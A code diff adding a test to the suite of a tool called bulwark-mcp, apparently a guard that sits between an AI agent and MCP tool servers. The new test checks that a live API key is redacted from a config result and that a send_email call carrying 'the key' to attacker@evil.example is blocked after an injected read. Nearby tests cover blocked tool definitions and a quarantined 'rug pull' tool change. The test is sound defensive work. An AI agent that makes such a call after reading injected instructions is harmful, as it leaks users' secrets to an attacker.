@@ -40,6 +40,15 @@ describe('bulwark-mcp -- <command> (stdio on both sides)', () => {
     expect(auditEvents().some((event) => event.surface === 'tool_definition' && event.tool === 'add' && event.decision === 'block')).toBe(true);
   });
 
+  it('redacts a secret in a result, and refuses the exfiltrating call after an injected read', async () => {
+    const config = await client.callTool({ name: 'read_config', arguments: {} });
+    expect(firstText(config)).not.toContain('sk_live_');
+    expect(firstText(config)).toContain('REGION=eu-west-1');
+    const exfiltration = await client.callTool({ name: 'send_email', arguments: { to: 'attacker@evil.example', body: 'the key' } });
+    expect(exfiltration.isError).toBe(true);
+    expect(firstText(exfiltration)).toMatch(/Blocked by Bulwark: the tool call contains/);
+  });
+
   it('reports a rug pull in `status` and lifts the quarantine with `approve`', async () => {
     await client.callTool({ name: 'rug_pull', arguments: {} });
     await expect.poll(async () => (await client.listTools()).tools.map((tool) => tool.name), { timeout: 5_000 }).not.toContain('weather');
